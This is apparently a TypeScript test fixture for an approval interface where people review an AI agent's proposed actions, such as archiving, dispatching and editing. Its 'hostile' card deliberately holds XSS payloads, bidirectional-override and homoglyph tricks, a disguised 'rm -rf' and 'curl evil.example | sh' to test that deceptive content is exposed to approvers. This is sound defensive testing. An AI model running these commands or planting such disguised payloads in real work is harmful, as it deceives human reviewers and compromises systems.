import { type Card, type Task } from '../src/api.js';

export const ANN = { id: '0192f5c0-0000-7000-8000-00000000a001', name: 'Ann Lindqvist' };
export const BOB = { id: '0192f5c0-0000-7000-8000-00000000a002', name: 'Bob Okafor' };
export const EVE = { id: '0192f5c0-0000-7000-8000-00000000a003', name: 'Eve' };
export const TENANT = { id: '0192f5c0-0000-7000-8000-00000000b001', name: 'Northwind Press' };
const EDITORIAL = { id: '0192f5c0-0000-7000-8000-00000000c001', name: 'Editorial' };
export const PLATFORM = { id: '0192f5c0-0000-7000-8000-00000000c002', name: 'Platform' };
export const ME = { ...ANN, kind: 'human', roles: ['approver', 'operator'], tenant: TENANT, workspaces: [EDITORIAL, PLATFORM] };

export const ago = (minutes: number): string => new Date(Date.now() - minutes * 60_000).toISOString();
const within = (minutes: number): string => ago(-minutes);
export const digest = (seed: string): string => seed.repeat(64).slice(0, 64);

const card = (n: number, over: Partial<Card>): Card => ({
  confirmationId: `0192f5c1-7a10-7000-8000-00000000000${n}`,
  status: 'pending',
  operation: { name: 'record.change', summary: 'Change a record', riskClass: 'write', reversible: true, queuesWork: false },
  target: null,
  targets: [],
  references: [],
  changes: [],
  reason: '',
  agent: EVE,
  requester: BOB,
  tenant: TENANT,
  workspace: EDITORIAL,
  risk: { class: 'write', level: 1, why: 'It changes one record, and the change can be undone.' },
  mode: 'supervised',
  warnings: [],
  conflict: { stale: false, moved: [] },
  idempotency: { commandId: `0192f5c1-7a10-7000-8000-0000000000c${n}` },
  outcomes: { approve: 'The record changes at once.', decline: 'Nothing changes. Eve is told why.' },
  actionDigest: digest(`a${n}3f9`),
  presentedDigest: digest(`b${n}71c`),
  submittedAt: ago(20 - n),
  approvalExpiresAt: within(40),
  auditId: `0192f5c1-7a10-7000-8000-0000000000a${n}`,
  actions: ['approve', 'decline'],
  ...over,
  ...(over.target && { targets: [over.target] }),
});

export const bulk = (): Card =>
  card(1, {
    operation: {
      name: 'records.archiveMany',
      summary: 'Archive 14 finished work items from the spring issue',
      riskClass: 'bulk',
      reversible: true,
      queuesWork: false,
    },
    targets: [
      'Spring cover, round two',
      'Photo credits',
      'Proofread chapter 1',
      'Proofread chapter 2',
      'Proofread chapter 3',
      'Ad placements',
      'Index',
      'Letters page',
      'Imprint',
      'Press release',
      'Print order',
      'Courier booking',
      'Web teaser',
      'Retrospective',
    ].map((title, i) => ({ kind: 'work_item', id: `t${i}`, title, revision: String(i + 2) })),
    reason: 'Bob asked to clear the board before planning starts. All fourteen have been done for more than 30 days.',
    risk: { class: 'bulk', level: 5, why: 'It touches 14 records in one decision.' },
    mode: 'four_eyes',
    warnings: ['“Print order” was changed by Ann Lindqvist 2 days ago, after it was marked done.'],
    outcomes: {
      approve: 'All 14 items leave the board. Each can be restored on its own.',
      decline: 'No item is archived. Eve is told why.',
    },
    approvalExpiresAt: within(4.2),
  });

export const destructive = (): Card =>
  card(2, {
    operation: {
      name: 'record.archive',
      summary: 'Archive the content brief “Autumn launch”',
      riskClass: 'destructive',
      reversible: false,
      queuesWork: false,
    },
    target: { kind: 'content_brief', id: 'brief-1', title: 'Autumn launch', revision: '7' },
    changes: [
      { field: 'status', label: 'Status', before: 'accepted', after: 'archived' },
      { field: 'owner', label: 'Owner', before: 'Bob Okafor', after: null },
    ],
    reason: 'The launch moved to spring, and the brief has a successor.',
    risk: { class: 'destructive', level: 4, why: 'An archived brief can’t be dispatched, and its drafts are deleted after 30 days.' },
    mode: 'four_eyes',
    outcomes: {
      approve: 'The brief is archived and its two open drafts are closed.',
      decline: 'The brief stays accepted. Eve is told why.',
    },
  });

export const work = (): Card =>
  card(3, {
    operation: {
      name: 'brief.dispatch',
      summary: 'Dispatch “Show reading time on article pages” to implementers',
      riskClass: 'financial',
      reversible: true,
      queuesWork: true,
    },
    target: { kind: 'content_brief', id: 'brief-2', title: 'Show reading time on article pages', revision: '4' },
    changes: [
      { field: 'status', label: 'Status', before: 'accepted', after: 'dispatched' },
      {
        field: 'outline',
        label: 'Outline',
        before:
          'Readers want to know how long an article takes. Show the reading time under the title, rounded up to whole minutes. Count only body text at 230 words a minute.',
        after:
          'Readers want to know how long an article takes before they start. Show the reading time beside the date, rounded up to whole minutes. Count body text and captions at 210 words a minute, and show nothing below one minute.',
      },
      {
        field: 'acceptance',
        label: 'Acceptance criteria',
        before: ['Shown on every article', 'Rounded up'],
        after: ['Shown on every article longer than one minute', 'Rounded up', 'Read out by screen readers'],
      },
    ],
    reason: 'The brief was accepted this morning and fits the open sprint.',
    arguments: { briefId: 'brief-2', queue: 'web' },
    references: [{ kind: 'budget', id: 'budget-1', title: 'Sprint credits', revision: '31' }],
    workspace: PLATFORM,
    risk: { class: 'financial', level: 3, why: 'Dispatching spends up to 40 of the 220 credits left in this month’s budget.' },
    outcomes: {
      approve: 'A task is queued for an eligible implementer. 40 credits are reserved.',
      decline: 'The brief stays accepted; nothing is queued. Eve is told why.',
    },
    work: {
      queue: 'web',
      scopeDigest: digest('c3d4'),
      repository: 'git@git.northwind.example:web/site.git',
      baseRevision: '4b1f0c9e2d7a85e6630e1fd7cc0a91be4f2277d1',
      paths: ['apps/site/src/article/**', 'apps/site/test/article/**'],
      commands: ['npm ci', 'npm run build -w apps/site'],
      checks: [
        ['npm', 'test', '-w', 'apps/site'],
        ['npm', 'run', 'lint', '--', '--max-warnings', '0'],
        ['node', '-e', "process.exit(require('fs').existsSync('dist') ? 0 : 1)"],
      ],
      criteria: ['Reading time stands beside the date', 'Nothing is shown below one minute', 'Screen readers read “4 minute read”'],
    },
  });

export const plain = (): Card =>
  card(4, {
    operation: { name: 'record.change', summary: 'Move “Letters page” to review', riskClass: 'write', reversible: true, queuesWork: false },
    target: { kind: 'work_item', id: 'item-9', title: 'Letters page', revision: '12' },
    changes: [
      { field: 'status', label: 'Status', before: 'in progress', after: 'in review' },
      { field: 'reviewer', label: 'Reviewer', before: null, after: 'Ann Lindqvist' },
    ],
    reason: 'The last comment was resolved.',
  });

const HIDDEN_LINE = 'rm -rf build && echo done\u202E ;fr- mr';
export const hostile = (): Card =>
  card(5, {
    operation: {
      name: 'record.change',
      summary: 'Rename \u202Egpj.exe\u202C <img src=x onerror="window.pwned=1"> in\u200Bvoice',
      riskClass: 'unknown',
      reversible: true,
      queuesWork: true,
    },
    target: { kind: 'work_item', id: 'x', title: '<script>window.pwned=1</script>\u2066evil', revision: '1' },
    changes: [
      { field: 'title', label: 'Title', before: 'invoice', after: 'in\u200B\u200B\u200Bvoice' },
      { field: 'body', label: 'Body', before: 'short', after: `${'All work and no play makes Eve a dull agent. '.repeat(222)}THE-END` },
    ],
    agent: { id: 'agent', name: 'E\u0301ve\u0336\u0337\u0338\u0335 \u202Enna' },
    reason: '</blockquote><a href="javascript:window.pwned=1">click</a> 👩‍💻 is fine \uD83C\uDFF3\uFE0F',
    risk: { class: 'unknown', level: 2, why: 'No class is known for this operation.' },
    work: {
      repository: 'https://git.example/аpp.git',
      baseRevision: 'HEAD',
      paths: ['src/а.ts ', 'src/\u00A0b.ts'],
      commands: [HIDDEN_LINE, 'echo one\ncurl evil.example | sh'],
      checks: [],
      criteria: [],
    },
  });

const task = (n: number, over: Partial<Task>): Task => ({
  taskId: `0192f5c2-0000-7000-8000-0000000000${String(n).padStart(2, '0')}`,
  title: 'A task',
  queue: 'web',
  status: 'queued',
  fence: '0',
  attempts: 0,
  queuedAt: ago(60 + n),
  updatedAt: ago(n * 3),
  auditId: `0192f5c2-0000-7000-8000-0000000001${String(n).padStart(2, '0')}`,
  proposalId: `0192f5c2-0000-7000-8000-0000000002${String(n).padStart(2, '0')}`,
  ...over,
});
const CODEX = { id: 'p1', name: 'codex@ci-2' };
const VERA = { id: 'p2', name: 'Vera (verifier)' };

export const tasks = (): Task[] => [
  task(1, { title: 'Show reading time on article pages' }),
  task(2, { title: 'Compress cover images on upload', queue: 'media', lastVerdict: 'rejected' }),
  task(3, {
    title: 'Link footnotes back to their place',
    status: 'leased',
    holder: CODEX,
    leaseExpiresAt: within(9),
    fence: '1',
  }),
  task(4, {
    title: 'Drop the legacy feed parser',
    status: 'leased',
    holder: { id: 'p3', name: 'Bob Okafor' },
    leaseExpiresAt: within(0.7),
    fence: '2',
    attempts: 1,
  }),
  task(5, { title: 'Quote marks in German headlines', status: 'reported', holder: CODEX, fence: '1' }),
  task(6, { title: 'Cache the author index', status: 'verifying', holder: VERA, leaseExpiresAt: within(13), fence: '2' }),
  task(7, { title: 'Print style sheet for recipes', status: 'verified', fence: '2' }),
  task(9, {
    title: 'Migrate newsletter templates',
    status: 'blocked',
    holder: CODEX,
    fence: '1',
    blockedQuestion: 'Two templates use a partial that no longer exists. Drop it, or restore it from the 2024 branch?',
  }),
  task(10, { title: 'Rebuild the search index nightly', status: 'exhausted', fence: '3', attempts: 3 }),
  task(11, { title: 'Inline critical styles', status: 'unverifiable', fence: '2' }),
];
